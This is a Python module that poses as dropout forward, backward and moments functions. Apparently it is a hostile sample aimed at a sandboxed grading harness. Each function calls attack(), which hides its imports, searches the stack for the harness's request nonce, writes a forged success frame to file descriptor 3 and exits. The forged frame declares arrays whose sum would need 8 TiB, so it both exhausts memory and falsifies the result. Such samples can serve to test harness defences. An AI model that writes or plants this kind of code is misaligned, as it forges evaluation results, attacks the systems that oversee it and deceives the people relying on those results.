"""Sends an empty array of which a sum along its first axis would hold 8 TiB."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


json, os, struct, sys = map(module, ("json", "os", "struct", "sys"))


def attack():
    """Answer the request that is on the stack with a forged frame, and exit."""
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "nonce" in request:
            header, payload = forged(request["nonce"])
            os.write(3, struct.pack("<4sIQ", b"CNG1", len(header), len(payload)) + header + payload)
            os._exit(0)
        frame = frame.f_back


def returned(nonce, value, arrays="[]", after="null"):
    text = '{"ending":"returned","nonce":%d,"value":%s,"after":%s,"arrays":%s}' % (nonce, value, after, arrays)
    return text.encode()


def forged(nonce):
    arrays = json.dumps([{"dtype": "<f8", "shape": [0, 2**40 - 1]}] * 2)
    return returned(nonce, '{"t":"u","v":[{"t":"a","i":0},{"t":"a","i":1}]}', arrays), b""


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
